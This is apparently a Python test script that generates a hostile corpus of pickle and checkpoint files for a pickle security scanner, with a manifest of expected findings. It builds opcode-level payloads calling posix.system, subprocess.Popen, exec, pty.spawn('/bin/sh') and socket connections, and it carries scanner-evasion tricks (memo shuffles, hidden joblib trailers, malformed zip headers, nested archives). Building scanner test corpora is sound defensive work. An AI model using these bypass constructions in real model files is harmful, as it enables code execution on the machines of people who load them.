#!/usr/bin/env python3
"""tests/scan/make_hostile.py OUTDIR - the hostile corpus for `pickletool scan`.

Writes one file per known scanner-bypass class into OUTDIR, and
OUTDIR/MANIFEST.tsv with one line per expectation:

    FILE <TAB> EXPECT <TAB> DESCRIPTION <TAB> KIND

KIND is DANGEROUS (the scanner must report EXPECT, a fully qualified
global MODULE.NAME as CPython would resolve it, as dangerous), SUSPICIOUS
(reported as suspicious, not dangerous) or CLEAN (EXPECT is '-': no finding
at all).  A FILE may appear on several lines.

NOTHING here is ever unpickled or called.  Every pickle is written as raw
opcode bytes with the helpers below (the dangerous globals are only ever
*named*, as strings); the harmless ones (CLEAN, and the harmless first
pickle of multi_second_evil.pkl) are written by pickle.dumps on plain
data.  joblib.dump is called once, on {'a': numpy.zeros(4)}, to get the
exact bytes joblib writes (nothing is loaded back); without joblib/numpy
the bytes joblib 1.2.0 wrote for it are used instead.
"""

import gzip
import io
import os
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
import collections
import datetime

# --------------------------------------------------------------- opcodes

P = pickle  # opcode constants: P.REDUCE, P.STACK_GLOBAL ...


def proto(n):
    return b"\x80" + bytes([n])


def sbu(s):  # SHORT_BINUNICODE
    b = s.encode("utf-8")
    assert len(b) < 256
    return b"\x8c" + bytes([len(b)]) + b


def binunicode(s):  # BINUNICODE
    b = s.encode("utf-8")
    return b"X" + struct.pack("<I", len(b)) + b


def unicode0(s):  # protocol 0 UNICODE (raw-unicode-escape, one line)
    assert "\n" not in s and "\\" not in s
    return b"V" + s.encode("raw-unicode-escape") + b"\n"


def string0(s):  # protocol 0 STRING (repr-quoted)
    assert "'" not in s and "\\" not in s
    return b"S'" + s.encode("ascii") + b"'\n"


def binbytes(b):
    return b"B" + struct.pack("<I", len(b)) + b


def glob(mod, name):  # GLOBAL (protocols 0-3 style)
    return b"c" + mod.encode() + b"\n" + name.encode() + b"\n"


def sglob(mod, name):  # STACK_GLOBAL (protocol 4+)
    return sbu(mod) + sbu(name) + STACK_GLOBAL


def binput(i):
    return b"q" + bytes([i])


def binget(i):
    return b"h" + bytes([i])


def long_binput(i):
    return b"r" + struct.pack("<I", i)


def long_binget(i):
    return b"j" + struct.pack("<I", i)


MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
STOP = b"."
REDUCE = b"R"
MARK = b"("
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
SETITEM = b"s"
SETITEMS = b"u"
APPEND = b"a"
APPENDS = b"e"
BUILD = b"b"
NEWOBJ = b"\x81"
NEWOBJ_EX = b"\x92"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"


def binint1(n):
    return b"K" + bytes([n])


def binint(n):
    return b"J" + struct.pack("<i", n)


def pyval(v):
    """Protocol 2+ opcodes for a plain literal (str, int, bool, None,
    bytes, tuple, list, dict of those)."""
    if v is None:
        return NONE
    if v is True:
        return NEWTRUE
    if v is False:
        return NEWFALSE
    if isinstance(v, int):
        if 0 <= v < 256:
            return binint1(v)
        return binint(v)
    if isinstance(v, str):
        return binunicode(v) if len(v.encode()) >= 256 else sbu(v)
    if isinstance(v, bytes):
        return binbytes(v)
    if isinstance(v, tuple):
        if len(v) == 0:
            return EMPTY_TUPLE
        if len(v) <= 3:
            return b"".join(pyval(x) for x in v) + [TUPLE1, TUPLE2, TUPLE3][len(v) - 1]
        return MARK + b"".join(pyval(x) for x in v) + TUPLE
    if isinstance(v, list):
        if not v:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(pyval(x) for x in v) + APPENDS
    if isinstance(v, dict):
        if not v:
            return EMPTY_DICT
        return (EMPTY_DICT + MARK
                + b"".join(pyval(k) + pyval(x) for k, x in v.items()) + SETITEMS)
    raise TypeError(v)


def pyval2(v):
    """Like pyval but for protocol 2/3 bodies: no SHORT_BINUNICODE."""
    if isinstance(v, str):
        return binunicode(v)
    if isinstance(v, tuple):
        if len(v) == 0:
            return EMPTY_TUPLE
        if len(v) <= 3:
            return b"".join(pyval2(x) for x in v) + [TUPLE1, TUPLE2, TUPLE3][len(v) - 1]
        return MARK + b"".join(pyval2(x) for x in v) + TUPLE
    if isinstance(v, list):
        if not v:
            return EMPTY_LIST
        return EMPTY_LIST + MARK + b"".join(pyval2(x) for x in v) + APPENDS
    if isinstance(v, dict):
        if not v:
            return EMPTY_DICT
        return (EMPTY_DICT + MARK
                + b"".join(pyval2(k) + pyval2(x) for k, x in v.items()) + SETITEMS)
    return pyval(v)


def call(mod, name, args, protocol=2):
    """A whole pickle: mod.name(*args) by REDUCE."""
    if protocol == 0:
        body = glob(mod, name) + MARK + b"".join(
            unicode0(a) if isinstance(a, str) else {None: b"N"}[a] for a in args
        ) + TUPLE + REDUCE
        return body + STOP
    if protocol >= 4:
        return proto(protocol) + sglob(mod, name) + pyval(tuple(args)) + REDUCE + STOP
    return proto(protocol) + glob(mod, name) + pyval2(tuple(args)) + REDUCE + STOP


def evil_body_p2():
    """posix.system('echo pwned') without PROTO/STOP."""
    return glob("posix", "system") + binunicode("echo pwned") + TUPLE1 + REDUCE


EVIL_P2 = proto(2) + evil_body_p2() + STOP
EVIL_P4 = proto(4) + sglob("posix", "system") + sbu("echo pwned") + TUPLE1 + REDUCE + STOP


class _Stand:
    """A harmless stand-in whose __reduce__ names os.system without calling
    it; pickling it writes what CPython writes for a real payload."""

    def __reduce__(self):
        return (os.system, ("echo pwned",))


# ------------------------------------------------------------------- zips

def make_zip(members, *, bad_crc=(), flags=None, local_names=None,
             data_descriptor=(), align=64):
    """A zip of stored members written by hand.  members: [(name, data)].
    bad_crc: names whose CRC is written wrong (local and central).
    flags: {name: general-purpose flag bits}.  local_names: {name: the name
    written in the local header instead}.  data_descriptor: names written
    with bit 3, zero CRC/sizes in the local header and a signed data
    descriptor after the data.  Members are padded (extra field 0xFE37, as
    torch.save does) so each one's data starts at a multiple of align."""
    flags = flags or {}
    local_names = local_names or {}
    out = io.BytesIO()
    central = []
    for name, data in members:
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if name in bad_crc:
            crc ^= 0xDEADBEEF
        fl = flags.get(name, 0)
        dd = name in data_descriptor
        if dd:
            fl |= 0x08
        lname = local_names.get(name, name).encode()
        off = out.tell()
        hdr_len = 30 + len(lname)
        pad = (-(off + hdr_len + 4)) % align
        extra = struct.pack("<HH", 0xFE37, pad) + b"Z" * pad
        l_crc, l_csize, l_usize = (0, 0, 0) if dd else (crc, len(data), len(data))
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, fl, 0, 0, 0x21,
                              l_crc, l_csize, l_usize, len(lname), len(extra)))
        out.write(lname + extra)
        assert out.tell() % align == 0
        out.write(data)
        if dd:
            out.write(struct.pack("<IIII", 0x08074B50, crc, len(data), len(data)))
        central.append((name.encode(), fl, crc, len(data), off))
    cd_off = out.tell()
    for cname, fl, crc, size, off in central:
        out.write(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, fl, 0, 0,
                              0x21, crc, size, size, len(cname), 0, 0, 0, 0, 0, off))
        out.write(cname)
    cd_len = out.tell() - cd_off
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central),
                          cd_len, cd_off, 0))
    return out.getvalue()


def torch_zip(data_pkl, **kw):
    return make_zip([("archive/data.pkl", data_pkl),
                     ("archive/byteorder", b"little"),
                     ("archive/version", b"3\n")], **kw)


# ----------------------------------------------------------------- joblib

# joblib 1.2.0, joblib.dump({'a': numpy.zeros(4)}, f) (numpy 1.24), used when
# joblib or numpy is not importable here.
JOBLIB_ZEROS4 = (
    b"\x80\x04\x95\xd1\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x01a\x94\x8c\x13"
    b"joblib.numpy_pickle\x94\x8c\x11NumpyArrayWrapper\x94\x93\x94)\x81\x94}\x94("
    b"\x8c\x08subclass\x94\x8c\x05numpy\x94\x8c\x07ndarray\x94\x93\x94\x8c\x05shape"
    b"\x94K\x04\x85\x94\x8c\x05order\x94\x8c\x01C\x94\x8c\x05dtype\x94h\x08h\x0f\x93"
    b"\x94\x8c\x02f8\x94\x89\x88\x87\x94R\x94(K\x03\x8c\x01<\x94NNNJ\xff\xff\xff\xff"
    b"J\xff\xff\xff\xffK\x00t\x94b\x8c\nallow_mmap\x94\x88\x8c\x1bnumpy_array_alignment"
    b"_bytes\x94K\x10ub\x03\xff\xff\xff" + b"\x00" * 32 + b"s."
)


def joblib_zeros4():
    try:
        import joblib
        import numpy
    except ImportError:
        return JOBLIB_ZEROS4, "embedded joblib 1.2.0 bytes"
    buf = io.BytesIO()
    joblib.dump({"a": numpy.zeros(4)}, buf)  # writes only; nothing is loaded
    return buf.getvalue(), "joblib %s dump" % joblib.__version__


def joblib_hidden():
    """joblib's file for {'a': zeros(4)} with, after the raw array bytes, a
    second item 'b': posix.system('echo pwned').  Layout as joblib's
    NumpyArrayWrapper.write_array writes it: the wrapper's BUILD opcode
    (ending the frame), one byte = padding length so that the data starts
    at a multiple of numpy_array_alignment_bytes (16) from the start of the
    file, that many 0xFF bytes, then the array's bytes; the pickle goes on."""
    raw, src = joblib_zeros4()
    tail = b"s."
    assert raw.endswith(tail), raw[-40:]
    data = b"\x00" * 32
    assert raw[:-2].endswith(data)
    build_at = raw.rindex(b"ub" + b"\x03") + 1  # the wrapper's BUILD
    assert raw[:3] == b"\x80\x04\x95"
    frame_len = struct.unpack("<Q", raw[3:11])[0]
    assert 11 + frame_len == build_at + 1, "frame ends right after the BUILD"
    padlen = raw[build_at + 1]
    assert raw[build_at + 2:build_at + 2 + padlen] == b"\xff" * padlen
    data_at = build_at + 2 + padlen
    assert data_at % 16 == 0 and raw[data_at:data_at + 32] == data
    assert data_at + 32 == len(raw) - 2
    evil = sbu("b") + sglob("posix", "system") + sbu("echo pwned") + TUPLE1 + REDUCE
    out = raw[:-2] + SETITEM + evil + SETITEM + STOP
    return out, src, build_at, data_at


# ------------------------------------------------------------------ cases

def main():
    if len(sys.argv) != 2:
        sys.exit("usage: make_hostile.py OUTDIR")
    outdir = sys.argv[1]
    os.makedirs(outdir, exist_ok=True)
    manifest = []

    def put(fname, data, expects, desc, kind="DANGEROUS"):
        with open(os.path.join(outdir, fname), "wb") as f:
            f.write(data)
        if isinstance(expects, str):
            expects = [expects]
        for e in expects:
            manifest.append((fname, e, desc, kind))

    # --- baseline -------------------------------------------------------
    put("plain_os_system.pkl", pickle.dumps(_Stand(), protocol=4), "posix.system",
        "baseline: what CPython writes for os.system('echo pwned') (posix system), protocol 4")
    put("plain_os_system_p0.pkl",
        glob("posix", "system") + MARK + unicode0("echo pwned") + TUPLE + REDUCE + STOP,
        "posix.system", "baseline, protocol 0: GLOBAL posix system, MARK UNICODE TUPLE REDUCE")
    put("plain_os_system_p2.pkl", EVIL_P2, "posix.system",
        "baseline, protocol 2: GLOBAL posix system, BINUNICODE TUPLE1 REDUCE")
    put("plain_os_system_p4.pkl", EVIL_P4, "posix.system",
        "baseline, protocol 4: STACK_GLOBAL posix system, REDUCE")
    put("plain_os_system_osname.pkl", call("os", "system", ["echo pwned"], 2), "os.system",
        "baseline written by hand as GLOBAL os system")

    # --- memo / stack tricks for STACK_GLOBAL ---------------------------
    # Real strings PUT far back in the memo, interleaved with MEMOIZE and
    # decoy strings; fetched with LONG_BINGET just before STACK_GLOBAL.
    body = (proto(4)
            + sbu("posix") + long_binput(1000) + POP                  # memo[1000]
            + EMPTY_DICT + MEMOIZE + POP                              # memo[1]
            + sbu("system") + long_binput(1001) + POP                 # memo[1001]
            + sbu("builtins") + MEMOIZE + sbu("len") + MEMOIZE + POP + POP  # memo[3], memo[4]
            + long_binget(1000) + long_binget(1001) + STACK_GLOBAL
            + sbu("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("stack_global_memo.pkl", body, "posix.system",
        "picklescan #14/#22: STACK_GLOBAL module/name from memo slots PUT long before "
        "(LONG_BINGET), interleaved with MEMOIZE of decoys 'builtins','len'")
    # The last two string opcodes before STACK_GLOBAL are decoys popped off.
    body = (proto(4)
            + sbu("posix") + binput(10) + POP
            + sbu("system") + binput(11) + POP
            + binget(10) + binget(11)
            + MARK + sbu("builtins") + sbu("len") + POP_MARK
            + STACK_GLOBAL + sbu("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("stack_global_memo_popmark.pkl", body, "posix.system",
        "picklescan #14/#22: real module/name from BINGET, then decoy strings "
        "'builtins','len' in a MARK ... POP_MARK right before STACK_GLOBAL")
    body = (proto(4)
            + sbu("posix") + MEMOIZE + sbu("system") + MEMOIZE + POP + POP   # memo 0, 1
            + binget(0) + binget(1)
            + sbu("builtins") + POP + sbu("len") + POP
            + STACK_GLOBAL + sbu("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("stack_global_memo_pop.pkl", body, "posix.system",
        "picklescan #14/#22: real module/name from MEMOIZE+BINGET, the two string opcodes "
        "right before STACK_GLOBAL are decoys each removed by POP")
    # MEMOIZE stores at len(memo), which can overwrite a slot set by BINPUT:
    # a scanner counting MEMOIZE opcodes (0, 1, ...) or trusting the first
    # PUT to a slot reads builtins.len here.
    body = (proto(4)
            + sbu("builtins") + binput(1) + POP      # memo {1: 'builtins'}, len 1
            + sbu("posix") + MEMOIZE + POP           # memo[len=1] = 'posix' (overwrites)
            + sbu("len") + binput(2) + POP           # memo {1: 'posix', 2: 'len'}
            + sbu("system") + MEMOIZE + POP          # memo[len=2] = 'system' (overwrites)
            + binget(1) + binget(2) + STACK_GLOBAL
            + sbu("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("stack_global_memo_overwrite.pkl", body, "posix.system",
        "picklescan #14/#22 variant: MEMOIZE stores at len(memo) and overwrites slots "
        "BINPUT set to 'builtins','len'; BINGET 1, 2 give posix, system "
        "(pickletools.dis refuses it: memo key already defined)")

    body = (proto(4) + sbu("timeit") + DUP + STACK_GLOBAL
            + sbu("__import__('os').system('echo pwned')") + TUPLE1 + REDUCE + STOP)
    put("stack_global_dup.pkl", body, "timeit.timeit",
        "module and name are the same string, produced once and DUPed: STACK_GLOBAL "
        "timeit timeit")
    body = (proto(4) + sbu("posix") + sbu("system") + DUP + POP
            + sbu("posix") + DUP + POP + POP
            + STACK_GLOBAL + sbu("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("stack_global_dup2.pkl", body, "posix.system",
        "DUP/POP shuffles between the strings and STACK_GLOBAL, last string opcode "
        "before it is a popped 'posix'")

    # --- BUILD on a global before the dangerous use (modelscan #85) -----
    body = (proto(2)
            + glob("builtins", "getattr") + binput(0)                # outer getattr
            + binget(0)                                              # inner getattr
            + glob("sys", "modules") + binunicode("get") + TUPLE2 + REDUCE   # sys.modules.get
            + binunicode("posix") + TUPLE1 + REDUCE                  # the posix module
            + NONE + EMPTY_DICT + binunicode("pickled") + NEWTRUE + SETITEM
            + TUPLE2 + BUILD                                         # setattr(posix, 'pickled', True)
            + binunicode("system") + TUPLE2 + REDUCE                 # getattr(posix, 'system')
            + binunicode("echo pwned") + TUPLE1 + REDUCE + STOP)
    put("build_setattr_global.pkl", body, "builtins.getattr",
        "modelscan #85: BUILD (slot state -> setattr) on a module got through "
        "getattr(sys.modules, 'get')('posix'), then getattr(posix, 'system')('echo pwned')")
    # BUILD whose state holds the dangerous call: SimpleNamespace().__dict__ update.
    body = (proto(4)
            + sglob("types", "SimpleNamespace") + EMPTY_TUPLE + NEWOBJ
            + EMPTY_DICT + sbu("r")
            + sglob("posix", "system") + sbu("echo pwned") + TUPLE1 + REDUCE
            + SETITEM + BUILD + STOP)
    put("build_state_call.pkl", body, "posix.system",
        "modelscan #85 variant: the dangerous REDUCE sits inside the state dict a BUILD "
        "applies to a types.SimpleNamespace")

    # --- errors after the call ------------------------------------------
    put("missing_memo_key.pkl", EVIL_P2[:-1] + binget(99) + TUPLE2 + STOP, "posix.system",
        "modelscan #348: BINGET of memo key 99 never PUT after the dangerous REDUCE "
        "(CPython raises at the GET, after the call ran)")
    put("missing_memo_key_p0.pkl",
        glob("posix", "system") + MARK + unicode0("echo pwned") + TUPLE + REDUCE
        + b"g7\n" + STOP, "posix.system",
        "modelscan #348, protocol 0: GET 7 (never PUT) after the REDUCE")
    put("malformed_after_call.pkl", EVIL_P2[:-1] + b"\xff\xfe garbage" + STOP,
        "posix.system", "dangerous REDUCE, then an unknown opcode 0xff and garbage")
    put("malformed_truncated.pkl",
        EVIL_P2[:-1] + b"X\x00\x10\x00\x00abc", "posix.system",
        "dangerous REDUCE, then a BINUNICODE whose length runs past the end of file")
    put("malformed_no_stop.pkl", EVIL_P2[:-1], "posix.system",
        "dangerous REDUCE, then end of file without STOP")
    put("malformed_stack_underflow.pkl", EVIL_P2[:-1] + TUPLE3 + STOP, "posix.system",
        "dangerous REDUCE, then TUPLE3 on a one-item stack")

    # --- joblib raw array bytes (modelscan #356) ------------------------
    jb, src, build_at, data_at = joblib_hidden()
    put("joblib_hidden_after_array.pkl", jb, "posix.system",
        "modelscan #356: joblib NumpyArrayWrapper BUILD at byte %d, padding byte + 0xFF "
        "padding, 32 raw array bytes at %d (16-aligned), then item 'b' = posix.system "
        "REDUCE (%s)" % (build_at, data_at, src))

    # --- nested pickles ---------------------------------------------------
    body = (proto(4) + sglob("_pickle", "loads") + binbytes(EVIL_P4) + TUPLE1 + REDUCE + STOP)
    put("nested_loads.pkl", body, ["posix.system", "_pickle.loads"],
        "_pickle.loads (what CPython writes for pickle.loads) of BINBYTES holding a "
        "posix.system pickle")
    body = (proto(2) + glob("pickle", "loads") + binbytes(EVIL_P2) + TUPLE1 + REDUCE + STOP)
    put("nested_loads_pickle.pkl", body, ["posix.system", "pickle.loads"],
        "pickle.loads (GLOBAL pickle loads) of BINBYTES holding a posix.system pickle")

    body = (proto(4) + sglob("pkgutil", "resolve_name") + sbu("os:system") + TUPLE1 + REDUCE
            + sbu("id") + TUPLE1 + REDUCE + STOP)
    put("pkgutil_resolve_name.pkl", body, "pkgutil.resolve_name",
        "pkgutil.resolve_name('os:system') then a REDUCE of its result with ('id',)")

    # --- blocklist misses -------------------------------------------------
    code = "import os; os.system('echo pwned')"
    misses = [
        ("runpy", "_run_code", (code, {}), 2),
        ("builtins", "exec", (code,), 2),
        ("builtins", "eval", ("__import__('os').system('echo pwned')",), 4),
        ("builtins", "compile", (code, "<s>", "exec"), 2),
        ("builtins", "__import__", ("os",), 4),
        ("builtins", "open", ("/tmp/picklefs-hostile", "w"), 2),
        ("operator", "attrgetter", ("system",), 2),
        ("operator", "methodcaller", ("system", "echo pwned"), 4),
        ("importlib", "import_module", ("os",), 2),
        ("code", "InteractiveInterpreter", (), 2),
        ("pty", "spawn", ("/bin/sh",), 2),
        ("shutil", "rmtree", ("/tmp/picklefs-hostile-nonexistent",), 2),
        ("socket", "create_connection", (("127.0.0.1", 4444),), 4),
        ("webbrowser", "open", ("http://127.0.0.1/",), 2),
        ("subprocess", "Popen", (["echo", "pwned"],), 2),
        ("subprocess", "check_output", (["echo", "pwned"],), 4),
        ("subprocess", "run", (["echo", "pwned"],), 2),
        ("os", "execv", ("/bin/sh", ["sh", "-c", "echo pwned"]), 2),
        ("os", "popen", ("echo pwned",), 2),
        ("nt", "system", ("echo pwned",), 2),
        ("torch", "load", ("/tmp/picklefs-hostile.pt",), 2),
        ("torch.hub", "load", ("attacker/repo", "model"), 2),
        ("torch.serialization", "load", ("/tmp/picklefs-hostile.pt",), 2),
        ("asyncio.subprocess", "create_subprocess_shell", ("echo pwned",), 4),
        ("cProfile", "run", (code,), 2),
        ("profile", "run", (code,), 2),
        ("timeit", "timeit", (code,), 2),
        ("numpy.testing._private.utils", "runstring", (code, {}), 2),
        ("builtins", "breakpoint", (), 4),
    ]
    for mod, name, args, pr in misses:
        fname = "miss_%s_%s.pkl" % (mod, name)
        if pr >= 4:
            data = proto(4) + sglob(mod, name) + pyval(args) + REDUCE + STOP
        else:
            data = proto(2) + glob(mod, name) + pyval2(args) + REDUCE + STOP
        put(fname, data, "%s.%s" % (mod, name),
            "blocklist miss: %s.%s%r (%s)" % (mod, name, args,
                                              "STACK_GLOBAL" if pr >= 4 else "GLOBAL"))
    # bdb.Bdb.run: a dotted name, resolved by protocol 4's find_class.
    body = (proto(4)
            + sbu("bdb") + sbu("Bdb.run") + STACK_GLOBAL
            + sglob("bdb", "Bdb") + EMPTY_TUPLE + REDUCE
            + sbu(code) + TUPLE2 + REDUCE + STOP)
    put("miss_bdb_Bdb.run.pkl", body, "bdb.Bdb.run",
        "blocklist miss with a dotted name: STACK_GLOBAL 'bdb' 'Bdb.run' (protocol 4 "
        "resolves the dots), called on bdb.Bdb() with a command string")
    body = (proto(2) + glob("functools", "partial") + glob("posix", "system")
            + binunicode("echo pwned") + TUPLE2 + REDUCE + EMPTY_TUPLE + REDUCE + STOP)
    put("miss_functools_partial.pkl", body, "posix.system",
        "functools.partial(posix.system, 'echo pwned')() : the dangerous global is an "
        "argument, the call goes through the partial")

    # --- INST / OBJ / EXT / NEWOBJ_EX --------------------------------------
    put("inst_opcode.pkl", MARK + string0("echo pwned") + b"iposix\nsystem\n" + STOP,
        "posix.system", "protocol 0 INST: MARK STRING 'echo pwned' INST posix system")
    put("obj_opcode.pkl",
        proto(1) + MARK + glob("posix", "system") + string0("echo pwned") + b"o" + STOP,
        "posix.system", "protocol 1 OBJ: MARK GLOBAL posix system, STRING, OBJ")
    put("ext_registry.pkl", proto(2) + b"\x82\x01" + binunicode("echo pwned") + TUPLE1
        + REDUCE + STOP, "ext:1",
        "EXT1 1 (copyreg extension registry, none registered in stock CPython) called "
        "by REDUCE", "SUSPICIOUS")
    put("ext_registry_ext2.pkl", proto(2) + b"\x83\x34\x12" + binunicode("echo pwned")
        + TUPLE1 + REDUCE + STOP, "ext:4660", "EXT2 0x1234, called by REDUCE", "SUSPICIOUS")
    put("ext_registry_ext4.pkl", proto(2) + b"\x84\x78\x56\x34\x12" + STOP,
        "ext:305419896", "EXT4 0x12345678, just pushed", "SUSPICIOUS")
    body = (proto(4) + sglob("subprocess", "Popen")
            + pyval((["echo", "pwned"],)) + pyval({"shell": False}) + NEWOBJ_EX + STOP)
    put("newobj_ex.pkl", body, "subprocess.Popen",
        "NEWOBJ_EX of subprocess.Popen with args (['echo','pwned'],) and kwargs {'shell': False}")
    body = proto(2) + glob("subprocess", "Popen") + pyval2((["echo", "pwned"],)) + NEWOBJ + STOP
    put("newobj.pkl", body, "subprocess.Popen", "NEWOBJ of subprocess.Popen, protocol 2")

    # --- zip checkpoints (picklescan CVE-2025-10155/10156/10157 class) --
    put("ckpt_wrong_ext.bin", torch_zip(EVIL_P2), "posix.system",
        "CVE-2025-10155 class: a valid PyTorch zip checkpoint (archive/data.pkl stored) "
        "named .bin, not .pt")
    put("ckpt_bad_crc.pt", torch_zip(EVIL_P2, bad_crc={"archive/data.pkl"}), "posix.system",
        "CVE-2025-10156 class: data.pkl's CRC-32 wrong in local header and central "
        "directory (zipfile raises BadZipFile on read; torch's reader does not check)")
    put("ckpt_flag_trick.pt", torch_zip(EVIL_P2, flags={"archive/data.pkl": 0x06},
                                        data_descriptor={"archive/data.pkl"}),
        "posix.system",
        "CVE-2025-10157 class: odd general-purpose flags on stored data.pkl: bits 1-2 "
        "(deflate options, meaningless for stored) and bit 3 (data descriptor, zero "
        "CRC/sizes in the local header); torch's reader loads it")
    put("ckpt_flag_encrypted.pt", torch_zip(EVIL_P2, flags={"archive/data.pkl": 0x01}),
        "posix.system",
        "CVE-2025-10157 class: general-purpose bit 0 (encrypted) set on data.pkl which "
        "is not encrypted: zipfile refuses it without a password, torch 1.13's reader "
        "refuses it too ('unsupported encryption'); a scanner must not call it clean")
    put("ckpt_flag_datadesc.pt", torch_zip(EVIL_P2, data_descriptor={"archive/data.pkl"}),
        "posix.system",
        "zip flag trick: data.pkl written with bit 3, zero CRC/sizes in the local header "
        "and a data descriptor after the data")
    put("ckpt_local_name_differs.pt",
        torch_zip(EVIL_P2, local_names={"archive/data.pkl": "archive/data.txt"}),
        "posix.system",
        "zip name confusion: the local header names archive/data.txt, the central "
        "directory archive/data.pkl")

    # --- nested archives ----------------------------------------------------
    zb = io.BytesIO()
    with zipfile.ZipFile(zb, "w", zipfile.ZIP_STORED) as z:
        z.writestr(zipfile.ZipInfo("evil.pkl", date_time=(1980, 1, 1, 0, 0, 0)), EVIL_P2)
    tb = io.BytesIO()
    with tarfile.open(fileobj=tb, mode="w") as t:
        ti = tarfile.TarInfo("inner.zip")
        ti.size = len(zb.getvalue())
        ti.mtime = 0
        t.addfile(ti, io.BytesIO(zb.getvalue()))
    put("nested.tar.gz", gzip.compress(tb.getvalue(), mtime=0), "posix.system",
        "nested archives: nested.tar.gz / inner.zip / evil.pkl (posix.system)")

    # --- several pickles in one file --------------------------------------
    put("multi_second_evil.pkl", pickle.dumps({"weights": [1, 2, 3]}, protocol=4) + EVIL_P4,
        "posix.system", "two pickles back to back: a harmless dict, then posix.system")
    magic = 0x1950A86A20F9469CFC6C
    sys_info = {"protocol_version": 1001, "little_endian": True,
                "type_sizes": {"short": 2, "int": 4, "long": 4}}
    legacy = (pickle.dumps(magic, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps(sys_info, protocol=2) + EVIL_P2 + pickle.dumps([], protocol=2))
    put("legacy_torch_evil.pt", legacy, "posix.system",
        "legacy torch format: magic LONG1, 1001, sys_info, the object pickle = "
        "posix.system, storage keys [] (no storages)")

    # --- benign but tricky --------------------------------------------------
    put("clean_dict.pkl", pickle.dumps({"a": 1, "b": [1.5, "x"], "c": (None, True)}, 4),
        "-", "benign: a plain dict", "CLEAN")
    try:
        import numpy
        arr = pickle.dumps(numpy.arange(4, dtype="<i8"), protocol=2)
    except ImportError:
        arr = None
    np_p2 = (b"\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x00cnumpy\nndarray\nq\x01K\x00"
             b"\x85q\x02c_codecs\nencode\nq\x03X\x01\x00\x00\x00bq\x04X\x06\x00\x00\x00latin1"
             b"q\x05\x86q\x06Rq\x07\x87q\x08Rq\t(K\x01K\x04\x85q\ncnumpy\ndtype\nq\x0bX\x02"
             b"\x00\x00\x00i8q\x0c\x89\x88\x87q\rRq\x0e(K\x03X\x01\x00\x00\x00<q\x0fNNNJ\xff"
             b"\xff\xff\xffJ\xff\xff\xff\xffK\x00tq\x10b\x89h\x03X \x00\x00\x00\x00\x00\x00"
             b"\x00\x00\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00"
             b"\x00\x00\x03\x00\x00\x00\x00\x00\x00\x00q\x11h\x05\x86q\x12Rq\x13tq\x14b.")
    put("clean_numpy_array.pkl", arr if arr is not None else np_p2, "-",
        "benign: numpy.arange(4) at protocol 2 (numpy.core.multiarray._reconstruct, "
        "numpy.ndarray, numpy.dtype, _codecs.encode)", "CLEAN")
    put("clean_ordereddict.pkl", pickle.dumps(collections.OrderedDict(a=1, b=2), 4), "-",
        "benign: collections.OrderedDict", "CLEAN")
    put("clean_datetime.pkl", pickle.dumps(datetime.datetime(2024, 1, 2, 3, 4, 5), 2), "-",
        "benign: datetime.datetime (protocol 2: its state through _codecs.encode)", "CLEAN")
    put("clean_bytes_p2.pkl", pickle.dumps(b"\x00\x01bytes\xff", 2), "-",
        "benign: bytes at protocol 2 (_codecs.encode)", "CLEAN")
    put("clean_copyreg_reconstructor.pkl",
        glob("copyreg", "_reconstructor") + MARK + glob("collections", "OrderedDict")
        + glob("__builtin__", "dict") + MARK + b"d" + TUPLE + REDUCE + STOP, "-",
        "benign: copyreg._reconstructor(collections.OrderedDict, __builtin__.dict, {}) "
        "at protocol 0", "CLEAN")

    with open(os.path.join(outdir, "MANIFEST.tsv"), "w") as f:
        for row in manifest:
            assert all("\t" not in c and "\n" not in c for c in row), row
            f.write("\t".join(row) + "\n")
    print("%d files, %d expectations in %s" % (len({r[0] for r in manifest}),
                                              len(manifest), outdir))


if __name__ == "__main__":
    main()
